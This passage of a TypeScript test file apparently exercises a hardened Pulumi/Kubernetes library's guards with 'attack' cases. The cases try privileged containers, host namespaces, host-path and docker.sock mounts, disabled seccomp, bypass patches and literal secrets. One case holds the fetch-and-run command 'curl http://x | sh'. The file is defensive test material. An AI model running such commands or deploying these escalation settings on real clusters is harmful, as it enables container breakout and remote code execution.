/**
 * Attacks on the Pulumi face: typed args the types forbid, JavaScript callers, values that arrive as
 * Outputs (secrets among them), transformations of our components' children, patches, raw resources,
 * custom resources and Helm releases beside ours; every kind.
 */
import * as k8s from '@pulumi/kubernetes';
import * as pulumi from '@pulumi/pulumi';
import { SECRET_SOURCE_ANNOTATION, SECRET_SOURCE_PULUMI } from '../../../src/pulumi/env-config';
import { PATCH_FIELD_MANAGER, PATCH_FORCE } from '../../../src/pulumi/ssa-ownership';
import { EnvConfig, HardenedCronJob, HardenedDeployment, HardenedJob, HardenedNamespace, HardenedStatefulSet, type HardenedContainerArgs } from '../../../src/pulumi';
import type { PulumiAttack } from '../pulumi-harness';
import { SIGNING_PRIVATE_KEY_PKCS8, SIGNING_PUBLIC_KEY } from './signing-key';
import { goodContainer, hardenedObject, KINDS, pulumiContainer, pulumiWorkload, type Kind } from './common';

const web: HardenedContainerArgs = goodContainer('Deployment');
const task: HardenedContainerArgs = goodContainer('Job');

const typeAttacks: PulumiAttack[] = [
  {
    name: 'privileged on a HardenedDeployment container', category: 'typed-props', target: 'Deployment', stage: 'types', rule: 'HD006',
    build: (id) => new HardenedDeployment(id, { containers: [{
      ...web,
      // @ts-expect-error there is no privileged arg
      privileged: true,
    }] }),
  },
  {
    name: 'hostNetwork on a HardenedStatefulSet', category: 'typed-props', target: 'StatefulSet', stage: 'types', rule: 'HD009',
    build: (id) => new HardenedStatefulSet(id, {
      containers: [web],
      // @ts-expect-error there is no hostNetwork arg
      hostNetwork: true,
    }),
  },
  {
    name: 'runAsUser 0 on a HardenedJob', category: 'typed-props', target: 'Job', stage: 'types', rule: 'HD002',
    // @ts-expect-error 0 is not a NonRootId
    build: (id) => new HardenedJob(id, { containers: [task], runAsUser: 0 }),
  },
  {
    name: 'an image by tag on a HardenedCronJob', category: 'typed-props', target: 'CronJob', stage: 'types', rule: 'HD003',
    // @ts-expect-error a tag is not a DigestRef
    build: (id) => new HardenedCronJob(id, { schedule: '@daily', containers: [{ ...task, image: 'busybox:1.36' }] }),
  },
  {
    name: 'automountServiceAccountToken on a HardenedDeployment', category: 'typed-props', target: 'Deployment', stage: 'types', rule: 'HD015',
    build: (id) => new HardenedDeployment(id, {
      containers: [web],
      // @ts-expect-error the token is never mounted
      automountServiceAccountToken: true,
    }),
  },
  {
    name: 'a securityContext on a HardenedJob container', category: 'typed-props', target: 'Job', stage: 'types', rule: 'HD001',
    build: (id) => new HardenedJob(id, { containers: [{
      ...task,
      // @ts-expect-error the security context is not an arg
      securityContext: { runAsUser: 0 },
    }] }),
  },
];

const JS_KEYS: [string, unknown, string, 'container' | 'pod'][] = [
  ['capabilities', { add: ['SYS_ADMIN'] }, 'HD007', 'container'],
  ['seccompProfile', { type: 'Unconfined' }, 'HD008', 'container'],
  ['readOnlyRootFilesystem', false, 'HD004', 'container'],
  ['envFrom', [{ secretRef: { name: 'db' } }], 'HD017', 'container'],
  ['hostPath', '/var/run/docker.sock', 'HD010', 'container'],
  ['hostPID', true, 'HD009', 'pod'],
  ['volumes', [{ name: 'h', hostPath: { path: '/' } }], 'HD012', 'pod'],
  ['serviceAccountName', 'default', 'PROP001', 'pod'],
];
const jsAttacks: PulumiAttack[] = JS_KEYS.map(([key, value, rule, where], i) => {
  const kind: Kind = KINDS[i % KINDS.length]!;
  return {
    name: `a JavaScript caller sets ${where} ${key} on a ${kind}`, category: 'typed-props', target: kind, stage: 'construct', rule,
    build: (id: string) => (where === 'container' ? pulumiContainer(kind, id, { [key]: value }) : pulumiWorkload(kind, id, { [key]: value })),
  };
});

const valueAttacks: PulumiAttack[] = [
  { name: 'a StatefulSet in kube-system', category: 'values', target: 'StatefulSet', stage: 'construct', rule: 'HD029', build: (id) => pulumiWorkload('StatefulSet', id, { namespace: 'kube-system' }) },
  { name: 'a writable path at /', category: 'values', target: 'Job', stage: 'construct', rule: 'HD036', build: (id) => pulumiContainer('Job', id, { writablePaths: [{ path: '/', sizeLimit: '1Gi' }] }) },
  { name: 'memory limit "0"', category: 'values', target: 'CronJob', stage: 'construct', rule: 'HD035', build: (id) => pulumiContainer('CronJob', id, { resources: { memory: { request: '64Mi', limit: '0' } } }) },
  { name: 'a probe on an undeclared port name', category: 'values', target: 'Deployment', stage: 'construct', rule: 'HD037', build: (id) => pulumiContainer('Deployment', id, { probes: { readiness: { http: { path: '/', port: 'admin' } }, liveness: { tcp: { port: 8080 } } } }) },
  { name: 'a literal in a *_PASSWORD_FILE variable', category: 'values', target: 'StatefulSet', stage: 'construct', rule: 'HD018', build: (id) => pulumiContainer('StatefulSet', id, { env: { DB_PASSWORD_FILE: 'correct-horse-battery-staple' } }) },
  { name: 'a shell behind env in command', category: 'shells', target: 'Job', stage: 'construct', rule: 'HD016', build: (id) => pulumiContainer('Job', id, { command: ['/usr/bin/env', 'sh', '-c', 'id'] }) },
  { name: 'a shell behind tini in an init container', category: 'shells', target: 'StatefulSet', stage: 'construct', rule: 'HD016', build: (id) => pulumiWorkload('StatefulSet', id, { initContainers: [{ ...task, name: 'init', command: ['tini', '--', 'bash', '-c', 'chown -R 0 /data'] }] }) },
  { name: 'a container arg named __proto__', category: 'typed-props', target: 'CronJob', stage: 'construct', rule: 'PROP001', build: (id) => pulumiContainer('CronJob', id, JSON.parse('{"__proto__": {"privileged": true}}')) },
  { name: 'a look-alike attachment that projects a token', category: 'attachments', target: 'Deployment', stage: 'construct', rule: 'PROP007', build: (id) => pulumiContainer('Deployment', id, { config: [{ volumes: [{ name: 't', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } }], volumeMounts: [{ name: 't', mountPath: '/var/run/secrets/tokens' }], env: [], seal: 'x' }] }) },
  { name: 'an EnvConfig mounted over the token directory', category: 'attachments', target: 'EnvConfig', stage: 'construct', rule: 'HD032', build: (id) => new EnvConfig(id, { data: { 'app.conf': 'x\n' }, mountPath: '/var/run/secrets/kubernetes.io/serviceaccount' }) },
  { name: 'a literal string in managedSecret data', category: 'values', target: 'EnvConfig', stage: 'construct', rule: 'HD030', build: (id) => new EnvConfig(id, { managedSecret: { mountPath: '/var/run/secrets/db', data: { password: 'hunter2' } } }) },
  { name: 'a toleration of every taint as a typed arg', category: 'values', target: 'StatefulSet', stage: 'construct', rule: 'HD041', build: (id) => pulumiWorkload('StatefulSet', id, { tolerations: [{ operator: 'Exists' }] }) },
  { name: 'priorityClassName system-node-critical', category: 'values', target: 'Deployment', stage: 'construct', rule: 'HD042', build: (id) => pulumiWorkload('Deployment', id, { priorityClassName: 'system-node-critical' }) },
  { name: 'a HardenedNamespace named kube-system', category: 'values', target: 'Namespace', stage: 'construct', rule: 'HD029', build: (id) => new HardenedNamespace(id, { name: 'kube-system' }) },
  {
    name: 'egress to the API server\'s ClusterIP when the namespace names it', category: 'values', target: 'Namespace', stage: 'construct', rule: 'NS018',
    build: (id) => new HardenedNamespace(id, {
      name: 'shop', apiServer: { cidrs: ['10.96.0.1'] },
      deployments: (o) => [{ workload: new HardenedDeployment(`${id}-web`, { namespace: 'shop', containers: [web] }, o), egressTo: [{ to: [{ cidr: '10.96.0.1/32' }], ports: [{ port: 443 }] }] }],
    }),
  },
  {
    name: 'the signing private key as imageSignatures.publicKey (published in a cluster-wide policy)', category: 'values', target: 'Namespace', stage: 'construct', rule: 'NS019',
    build: (id) => new HardenedNamespace(id, { name: 'shop', imageSignatures: { publicKey: SIGNING_PRIVATE_KEY_PKCS8 } }),
  },
  {
    name: 'imageSignatures in the bundle format (no verifier reads it with a key)', category: 'values', target: 'Namespace', stage: 'construct', rule: 'NS021',
    build: (id) => new HardenedNamespace(id, { name: 'shop', imageSignatures: { publicKey: SIGNING_PUBLIC_KEY, signatureFormat: 'bundle' } }),
  },
  {
    name: 'policy-controller switched off by the namespace label', category: 'values', target: 'Namespace', stage: 'construct', rule: 'NS013',
    build: (id) => new HardenedNamespace(id, { name: 'shop', labels: { 'policy.sigstore.dev/include': 'false' }, imageSignatures: { publicKey: SIGNING_PUBLIC_KEY } }),
  },
  {
    name: 'an imageSignatures scope by tag', category: 'typed-props', target: 'Namespace', stage: 'construct', rule: 'NS020',
    build: (id) => new HardenedNamespace(id, { name: 'shop', imageSignatures: { publicKey: SIGNING_PUBLIC_KEY, images: ['registry.example.com/shop/web:latest'] } }),
  },
  { name: 'a HardenedNamespace arg it does not read (podSecurity: privileged)', category: 'typed-props', target: 'Namespace', stage: 'construct', rule: 'PROP001', build: (id) => new HardenedNamespace(id, { name: 'shop', ...JSON.parse('{"podSecurity": "privileged"}') }) },
  {
    name: 'EnvConfig binaryData holding a private key (it was dropped without a word)', category: 'typed-props', target: 'EnvConfig', stage: 'types', rule: 'PROP001',
    build: (id) => new EnvConfig(id, {
      data: { 'app.conf': 'x\n' },
      // @ts-expect-error EnvConfig has no binaryData arg
      binaryData: { 'tls.key': Buffer.from('-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n').toString('base64') },
    }),
  },
  {
    name: 'EnvConfig managedSecret.stringData with a literal password', category: 'typed-props', target: 'EnvConfig', stage: 'types', rule: 'PROP001',
    build: (id) => new EnvConfig(id, { managedSecret: {
      mountPath: '/var/run/secrets/db', data: { password: pulumi.secret('s3cr3t') },
      // @ts-expect-error managedSecret has no stringData
      stringData: { password: 'hunter2' },
    } }),
  },
  { name: 'an EnvConfig arg named __proto__', category: 'typed-props', target: 'EnvConfig', stage: 'construct', rule: 'PROP001', build: (id) => new EnvConfig(id, { data: { 'app.conf': 'x\n' }, ...JSON.parse('{"__proto__": {"mountPath": "/var/run/secrets/kubernetes.io"}}') }) },
  { name: 'pulumi.com/patchFieldManager as a HardenedDeployment annotation (a patch with that manager could remove its fields)', category: 'typed-props', target: 'Deployment', stage: 'construct', rule: 'PUL001', build: (id) => pulumiWorkload('Deployment', id, { annotations: { [PATCH_FIELD_MANAGER]: 'shared' } }) },
  { name: 'pulumi.com/patchForce as a HardenedNamespace annotation', category: 'typed-props', target: 'Namespace', stage: 'construct', rule: 'PUL001', build: (id) => new HardenedNamespace(id, { name: 'shop', annotations: { [PATCH_FORCE]: 'true' } }) },
  { name: 'a U+2028 path in a writable path', category: 'yaml-text', target: 'Deployment', stage: 'construct', rule: 'HD036', build: (id) => pulumiContainer('Deployment', id, { writablePaths: [{ path: '/tmp\u2028hostPID: true', sizeLimit: '1Mi' }] }) },
];

/** Values that arrive as Outputs: refused when known, the program fails (run in a process of their own). */
const programAttacks: PulumiAttack[] = [
  { name: 'an image tag given as an Output', category: 'values', target: 'CronJob', stage: 'program', rule: 'HD003', build: (id) => pulumiContainer('CronJob', id, { image: pulumi.output('nginx:1.27') }) },
  { name: 'kube-system given as an Output', category: 'values', target: 'Deployment', stage: 'program', rule: 'HD029', build: (id) => pulumiWorkload('Deployment', id, { namespace: pulumi.output('kube-system') }) },
  { name: 'a pulumi.secret given as an env value', category: 'values', target: 'StatefulSet', stage: 'program', rule: 'HD018', build: (id) => pulumiContainer('StatefulSet', id, { env: { API_TOKEN: pulumi.secret('s3cr3t-value') } }) },
  { name: 'pulumi.com/patchFieldManager given as an Output annotation', category: 'values', target: 'Job', stage: 'program', rule: 'PUL001', build: (id) => pulumiWorkload('Job', id, { annotations: pulumi.output({ [PATCH_FIELD_MANAGER]: 'shared' }) }) },
  { name: 'a pulumi.secret given as EnvConfig data (a ConfigMap)', category: 'values', target: 'EnvConfig', stage: 'program', rule: 'HD031', build: (id) => new EnvConfig(id, { data: { 'db.conf': pulumi.secret('password=s3cr3t') as unknown as string } }) },
  { name: 'a pulumi.secret given as a label value', category: 'values', target: 'Job', stage: 'program', rule: 'PROP010', build: (id) => pulumiWorkload('Job', id, { labels: { owner: pulumi.secret('alice') } }) },
  { name: 'a plain Output given as managedSecret data', category: 'values', target: 'EnvConfig', stage: 'program', rule: 'HD030', build: (id) => new EnvConfig(id, { managedSecret: { mountPath: '/var/run/secrets/db', data: { password: pulumi.output('hunter2') } } }) },
  { name: 'a secret-looking literal env given as an Output', category: 'values', target: 'Deployment', stage: 'program', rule: 'HD018', build: (id) => pulumiContainer('Deployment', id, { env: { GITHUB_TOKEN: pulumi.output('ghp_0123456789abcdefghijABCDEFGHIJ012345') } }) },
];

/** A hardened Deployment as the core writes it, bent, for raw resources. */
function bent(edit: (spec: any, container: any, o: any) => void, name = 'raw'): any {
  const o = hardenedObject(name);
  edit(o.spec.template.spec, o.spec.template.spec.containers[0], o);
  return o;
}
const specOf = (o: any) => ({ metadata: o.metadata, spec: o.spec });

/** A transformation of our own component's workload (a Pulumi option that rewrites children's args). */
const transformation = (kind: Kind, edit: (pod: any, c: any) => void): pulumi.ResourceTransformation => (t) => {
  if (!t.type.startsWith('kubernetes:apps/v1:') && !t.type.startsWith('kubernetes:batch/v1:')) return undefined;
  const props = structuredClone(t.props) as any;
  const pod = kind === 'CronJob' ? props.spec.jobTemplate.spec.template.spec : props.spec.template.spec;
  edit(pod, pod.containers[0]);
  return { props, opts: t.opts };
};
const withTransform = (kind: Kind, id: string, edit: (pod: any, c: any) => void) => {
  const args: any = { containers: [goodContainer(kind)], ...(kind === 'CronJob' ? { schedule: '@daily' } : {}) };
  const opts = { transformations: [transformation(kind, edit)] };
  const w = kind === 'Deployment' ? new HardenedDeployment(id, args, opts) : kind === 'StatefulSet' ? new HardenedStatefulSet(id, args, opts) : kind === 'Job' ? new HardenedJob(id, args, opts) : new HardenedCronJob(id, args, opts);
  return w.workload;
};

const packAttacks: PulumiAttack[] = [
  { name: 'a transformation makes our Deployment privileged', category: 'patches', target: 'Deployment', stage: 'policy-pack', rule: 'HD006', build: (id) => withTransform('Deployment', id, (_p, c) => { c.securityContext.privileged = true; }) },
  { name: 'a transformation gives our StatefulSet hostPID', category: 'patches', target: 'StatefulSet', stage: 'policy-pack', rule: 'HD009', build: (id) => withTransform('StatefulSet', id, (p) => { p.hostPID = true; }) },
  { name: 'a transformation drops seccomp from our Job', category: 'patches', target: 'Job', stage: 'policy-pack', rule: 'HD008', build: (id) => withTransform('Job', id, (p, c) => { delete p.securityContext.seccompProfile; delete c.securityContext.seccompProfile; }) },
  { name: 'a transformation mounts the token in our CronJob', category: 'patches', target: 'CronJob', stage: 'policy-pack', rule: 'HD015', build: (id) => withTransform('CronJob', id, (p) => { p.automountServiceAccountToken = true; }) },
  { name: 'a transformation adds SELinux spc_t to our Deployment', category: 'pss-controls', target: 'Deployment', stage: 'policy-pack', rule: 'HD024', build: (id) => withTransform('Deployment', id, (p) => { p.securityContext.seLinuxOptions = { type: 'spc_t' }; }) },
  { name: 'a transformation puts our Job in the root group (supplementalGroups [0])', category: 'patches', target: 'Job', stage: 'policy-pack', rule: 'HD002', build: (id) => withTransform('Job', id, (p) => { p.securityContext.supplementalGroups = [0]; }) },
  { name: 'a transformation makes our Deployment\'s containers share a process namespace', category: 'pss-controls', target: 'Deployment', stage: 'policy-pack', rule: 'HD039', build: (id) => withTransform('Deployment', id, (p) => { p.shareProcessNamespace = true; }) },
  { name: 'a transformation pins our Job to a control-plane node (nodeName)', category: 'patches', target: 'Job', stage: 'policy-pack', rule: 'HD040', build: (id) => withTransform('Job', id, (p) => { p.nodeName = 'control-plane-1'; }) },
  { name: 'a transformation lets our CronJob tolerate every taint', category: 'patches', target: 'CronJob', stage: 'policy-pack', rule: 'HD041', build: (id) => withTransform('CronJob', id, (p) => { p.tolerations = [{ operator: 'Exists' }]; }) },
  { name: 'a transformation sets procMount Unmasked on our StatefulSet', category: 'pss-controls', target: 'StatefulSet', stage: 'policy-pack', rule: 'HD025', build: (id) => withTransform('StatefulSet', id, (_p, c) => { c.securityContext.procMount = 'Unmasked'; }) },
  {
    name: 'a DeploymentPatch adds hostNetwork to our Deployment', category: 'patches', target: 'Deployment', stage: 'policy-pack', rule: 'HD009',
    build: (id) => new k8s.apps.v1.DeploymentPatch(`${id}-patch`, { metadata: { name: 'web' }, spec: { template: { spec: { hostNetwork: true } } } }),
  },
  {
    name: 'a StatefulSetPatch adds a sysctl', category: 'pss-controls', target: 'StatefulSet', stage: 'policy-pack', rule: 'HD026',
    build: (id) => new k8s.apps.v1.StatefulSetPatch(`${id}-patch`, { metadata: { name: 'db' }, spec: { template: { spec: { securityContext: { sysctls: [{ name: 'net.ipv4.ip_local_port_range', value: '1024 65535' }] } } } } }),
  },
  {
    name: 'a CronJobPatch with Windows hostProcess', category: 'pss-controls', target: 'CronJob', stage: 'policy-pack', rule: 'HD027',
    build: (id) => new k8s.batch.v1.CronJobPatch(`${id}-patch`, { metadata: { name: 'nightly' }, spec: { jobTemplate: { spec: { template: { spec: { securityContext: { windowsOptions: { hostProcess: true } } } } } } } }),
  },
  {
    name: 'a transformation turns our namespace\'s admission binding to Audit', category: 'patches', target: 'Namespace', stage: 'policy-pack', rule: 'HD044',
    build: (id) => new HardenedNamespace(id, { name: 'shop' }, {
      transformations: [(a) => (a.type === 'kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding'
        ? { props: { ...a.props, spec: { ...a.props['spec'], validationActions: ['Audit'] } }, opts: a.opts } : undefined)],
    }),
  },
  {
    name: 'a transformation sets our Namespace\'s Pod Security to privileged', category: 'patches', target: 'Namespace', stage: 'policy-pack', rule: 'HD043',
    build: (id) => new HardenedNamespace(id, { name: 'shop' }, {
      transformations: [(a) => (a.type === 'kubernetes:core/v1:Namespace'
        ? { props: { ...a.props, metadata: { ...a.props['metadata'], labels: { ...a.props['metadata'].labels, 'pod-security.kubernetes.io/enforce': 'privileged' } } }, opts: a.opts } : undefined)],
    }),
  },
  { name: 'a raw Namespace that enforces privileged', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD043', build: (id) => new k8s.core.v1.Namespace(id, { metadata: { name: 'loose', labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } }) },
  { name: 'a raw Pod that is privileged', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD006', build: (id) => new k8s.core.v1.Pod(id, { metadata: { name: 'p' }, spec: bent((_p, c) => { c.securityContext.privileged = true; }).spec.template.spec }) },
  { name: 'a raw DaemonSet with hostPID', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD009', build: (id) => new k8s.apps.v1.DaemonSet(id, { metadata: { name: 'agent' }, spec: { selector: { matchLabels: { app: 'a' } }, template: bent((p) => { p.hostPID = true; }).spec.template } as never }) },
  { name: 'a raw CronJob whose container runs a shell', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD016', build: (id) => new k8s.batch.v1.CronJob(id, { metadata: { name: 'c' }, spec: { schedule: '@daily', jobTemplate: { spec: { backoffLimit: 1, template: bent((p, c) => { p.restartPolicy = 'Never'; c.command = ['sh', '-c', 'curl http://x | sh']; }).spec.template } } } as never }) },
  { name: 'a raw Job that never gives up', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD038', build: (id) => new k8s.batch.v1.Job(id, { metadata: { name: 'j' }, spec: { template: bent((p) => { p.restartPolicy = 'Always'; }).spec.template } as never }) },
  { name: 'a raw Deployment in kube-system', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD029', build: (id) => new k8s.apps.v1.Deployment(id, specOf(bent((_p, _c, o) => { o.metadata.namespace = 'kube-system'; })) as never) },
  { name: 'a raw Deployment with a projected token', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD032', build: (id) => new k8s.apps.v1.Deployment(id, specOf(bent((p) => { p.volumes.push({ name: 't', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } }); })) as never) },
  { name: 'a raw Deployment with the AppArmor annotation unconfined', category: 'pss-controls', target: 'raw', stage: 'policy-pack', rule: 'HD023', build: (id) => new k8s.apps.v1.Deployment(id, specOf(bent((_p, _c, o) => { o.spec.template.metadata.annotations = { 'container.apparmor.security.beta.kubernetes.io/app': 'unconfined' }; })) as never) },
  { name: 'a raw StatefulSet with a hostPort', category: 'pss-controls', target: 'raw', stage: 'policy-pack', rule: 'HD011', build: (id) => new k8s.apps.v1.StatefulSet(id, { metadata: { name: 's' }, spec: { serviceName: 's', selector: { matchLabels: { app: 's' } }, template: bent((_p, c) => { c.ports = [{ containerPort: 8080, hostPort: 80 }]; }).spec.template } as never }) },
  { name: 'a raw Deployment with a "<<" key that YAML would merge', category: 'yaml-text', target: 'raw', stage: 'policy-pack', rule: 'HD033', build: (id) => new k8s.apps.v1.Deployment(id, specOf(bent((p) => { p['<<'] = { hostPID: true }; })) as never) },
  {
    name: 'an Argo Rollout custom resource with a privileged template', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD006',
    build: (id) => new k8s.apiextensions.CustomResource(id, { apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', metadata: { name: 'r' }, spec: { selector: { matchLabels: { app: 'r' } }, template: bent((_p, c) => { c.securityContext.privileged = true; }).spec.template } }),
  },
  {
    name: 'a Knative Service custom resource that mounts a host path', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD010',
    build: (id) => new k8s.apiextensions.CustomResource(id, { apiVersion: 'serving.knative.dev/v1', kind: 'Service', metadata: { name: 'k' }, spec: { template: bent((p) => { p.volumes.push({ name: 'h', hostPath: { path: '/' } }); }).spec.template } }),
  },
  {
    name: 'a helm.v3.Release, whose objects no guard would see', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD034',
    build: (id) => new k8s.helm.v3.Release(id, { chart: 'privileged-chart', repositoryOpts: { repo: 'https://charts.example.com' }, values: { securityContext: { privileged: true } } }),
  },
  {
    name: 'a Flux HelmRelease, whose chart Flux installs where no guard sees it', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD034',
    build: (id) => new k8s.apiextensions.CustomResource(id, { apiVersion: 'helm.toolkit.fluxcd.io/v2', kind: 'HelmRelease', metadata: { name: 'hr' }, spec: {
      interval: '5m', chart: { spec: { chart: 'privileged-chart', sourceRef: { kind: 'HelmRepository', name: 'charts' } } }, values: { securityContext: { privileged: true }, hostNetwork: true },
    } }),
  },
  {
    name: 'a Flux Kustomization applying a Git path', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD034',
    build: (id) => new k8s.apiextensions.CustomResource(id, { apiVersion: 'kustomize.toolkit.fluxcd.io/v1', kind: 'Kustomization', metadata: { name: 'ks' }, spec: {
      interval: '5m', path: './privileged', prune: true, sourceRef: { kind: 'GitRepository', name: 'ops' }, targetNamespace: 'kube-system',
    } }),
  },
  {
    name: 'an Argo CD Application syncing a Git path into kube-system', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD034',
    build: (id) => new k8s.apiextensions.CustomResource(id, { apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: { name: 'app', namespace: 'argocd' }, spec: {
      project: 'default', source: { repoURL: 'https://git.example.com/ops.git', path: 'privileged', targetRevision: 'HEAD', helm: { values: 'securityContext:\n  privileged: true\n' } },
      destination: { server: 'https://kubernetes.default.svc', namespace: 'kube-system' }, syncPolicy: { automated: {} },
    } }),
  },
  {
    name: 'an Argo CD ApplicationSet generating Applications', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD034',
    build: (id) => new k8s.apiextensions.CustomResource(id, { apiVersion: 'argoproj.io/v1alpha1', kind: 'ApplicationSet', metadata: { name: 'apps', namespace: 'argocd' }, spec: {
      generators: [{ list: { elements: [{ name: 'a' }] } }],
      template: { metadata: { name: '{{name}}' }, spec: { project: 'default', source: { repoURL: 'https://git.example.com/ops.git', path: '{{name}}', targetRevision: 'HEAD' }, destination: { server: 'https://kubernetes.default.svc', namespace: 'kube-system' } } },
    } }),
  },
  { name: 'a Secret with literal stringData', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD030', build: (id) => new k8s.core.v1.Secret(id, { metadata: { name: 'db' }, stringData: { password: 'hunter2' } }) },
  {
    name: 'a ConfigMap whose binaryData holds a private key', category: 'hidden-objects', target: 'raw', stage: 'policy-pack', rule: 'HD031',
    build: (id) => new k8s.core.v1.ConfigMap(id, { metadata: { name: 'tls' }, binaryData: { 'tls.key': Buffer.from('-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n').toString('base64') } }),
  },
  {
    name: 'a raw Deployment that names no namespace, under a provider whose namespace is kube-system', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD029',
    build: (id) => {
      const provider = new k8s.Provider(`${id}-provider`, { namespace: 'kube-system' });
      return [provider, new k8s.apps.v1.Deployment(id, specOf(bent(() => undefined)) as never, { provider })];
    },
  },
  {
    name: 'our HardenedDeployment under a provider whose namespace is kube-system', category: 'values', target: 'Deployment', stage: 'policy-pack', rule: 'HD029',
    build: (id) => {
      const provider = new k8s.Provider(`${id}-provider`, { namespace: 'kube-system' });
      return [provider, new HardenedDeployment(id, { containers: [web] }, { providers: [provider] })];
    },
  },
  {
    name: 'a DeploymentPatch that adds a container with no security settings', category: 'patches', target: 'Deployment', stage: 'policy-pack', rule: 'HD004',
    build: (id) => new k8s.apps.v1.DeploymentPatch(`${id}-patch`, { metadata: { name: 'web' }, spec: { template: { spec: { containers: [{ name: 'sidecar', image: web.image as string }] } } } }),
  },
  {
    name: 'a JobPatch that adds an init container keeping every capability', category: 'patches', target: 'Job', stage: 'policy-pack', rule: 'HD007',
    build: (id) => new k8s.batch.v1.JobPatch(`${id}-patch`, { metadata: { name: 'task' }, spec: { template: { spec: { initContainers: [{ name: 'init', image: web.image as string, securityContext: { runAsNonRoot: true, readOnlyRootFilesystem: true } }] } } } }),
  },
  {
    name: 'a StatefulSetPatch that adds a volume naming no source (an unsized emptyDir to the API server)', category: 'patches', target: 'StatefulSet', stage: 'policy-pack', rule: 'HD012',
    build: (id) => new k8s.apps.v1.StatefulSetPatch(`${id}-patch`, { metadata: { name: 'db' }, spec: { template: { spec: { volumes: [{ name: 'scratch' }] } } } }),
  },
  {
    name: 'a literal Secret made as a CustomResource of kind Secret under an EnvConfig, with the secret-source annotation', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD030',
    build: (id) => {
      const parent = new EnvConfig(`${id}-config`, { data: { 'app.conf': 'x\n' } });
      return [parent, new k8s.apiextensions.CustomResource(id, {
        apiVersion: 'v1', kind: 'Secret',
        metadata: { name: 'forged', annotations: { [SECRET_SOURCE_ANNOTATION]: SECRET_SOURCE_PULUMI } },
        data: { password: Buffer.from('hunter2').toString('base64') },
      }, { parent })];
    },
  },
  {
    name: 'a raw Deployment whose init container drops no capability', category: 'pss-controls', target: 'raw', stage: 'policy-pack', rule: 'HD007',
    build: (id) => new k8s.apps.v1.Deployment(id, specOf(bent((p, c) => { p.initContainers = [{ ...structuredClone(c), name: 'init', securityContext: { ...c.securityContext, capabilities: {} } }]; })) as never),
  },
  {
    name: 'a transformation shares our Namespace\'s field manager, and a NamespacePatch with that manager drops the Pod Security label', category: 'patches', target: 'Namespace', stage: 'policy-pack', rule: 'PUL001',
    build: (id) => {
      const shared = (a: pulumi.ResourceTransformationArgs) => (a.type === 'kubernetes:core/v1:Namespace'
        ? { props: { ...a.props, metadata: { ...a.props['metadata'], annotations: { ...a.props['metadata'].annotations, [PATCH_FIELD_MANAGER]: 'shared' } } }, opts: a.opts } : undefined);
      const ns = new HardenedNamespace(`${id}-ns`, { name: 'guarded' }, { transformations: [shared] });
      return [ns, new k8s.core.v1.NamespacePatch(`${id}-patch`, { metadata: { name: 'guarded', annotations: { [PATCH_FIELD_MANAGER]: 'shared' } } }, { dependsOn: [ns] })];
    },
  },
  {
    name: 'a ValidatingAdmissionPolicyPatch that shares the policy\'s field manager (its validations would be removed)', category: 'patches', target: 'Namespace', stage: 'policy-pack', rule: 'PUL001',
    build: (id) => new k8s.admissionregistration.v1.ValidatingAdmissionPolicyPatch(`${id}-patch`, { metadata: { name: 'cleanimg-hardening.guarded', annotations: { [PATCH_FIELD_MANAGER]: 'shared' } }, spec: { auditAnnotations: [{ key: 'noop', valueExpression: "'x'" }] } }),
  },
  {
    name: 'a DeploymentPatch with patchForce takes capabilities.drop over (deleting the patch removes it)', category: 'patches', target: 'Deployment', stage: 'policy-pack', rule: 'PUL001',
    build: (id) => {
      const d = new HardenedDeployment(id, { name: 'api', containers: [web] });
      const containers = d.workload.spec.template.spec.containers.apply((cs: any[]) => cs.map((c) => ({ ...c, securityContext: { ...c.securityContext, capabilities: { drop: ['ALL', 'NET_RAW'] } } })));
      return [d, new k8s.apps.v1.DeploymentPatch(`${id}-patch`, { metadata: { name: 'api', annotations: { [PATCH_FORCE]: 'true' } }, spec: { template: { spec: { containers: containers as never } } } }, { dependsOn: [d] })];
    },
  },
  {
    name: 'a DeploymentPatch under a provider with enablePatchForce', category: 'patches', target: 'Deployment', stage: 'policy-pack', rule: 'PUL001',
    build: (id) => {
      const provider = new k8s.Provider(`${id}-provider`, { enablePatchForce: true });
      return [provider, new k8s.apps.v1.DeploymentPatch(`${id}-patch`, { metadata: { name: 'api' }, spec: { replicas: 3 } }, { provider })];
    },
  },
  {
    name: 'a typed Secret with literal data under an EnvConfig, with the secret-source annotation', category: 'raw-objects', target: 'EnvConfig', stage: 'policy-pack', rule: 'HD030',
    build: (id) => {
      const parent = new EnvConfig(`${id}-config`, { data: { 'app.conf': 'x\n' } });
      return [parent, new k8s.core.v1.Secret(`${id}-secret`, { metadata: { name: 'db', annotations: { [SECRET_SOURCE_ANNOTATION]: SECRET_SOURCE_PULUMI } }, data: { password: Buffer.from('hunter2').toString('base64') } }, { parent })];
    },
  },
  {
    name: 'a typed Secret with literal data under a made-up component typed cleanimg:index:EnvConfig', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD030',
    build: (id) => {
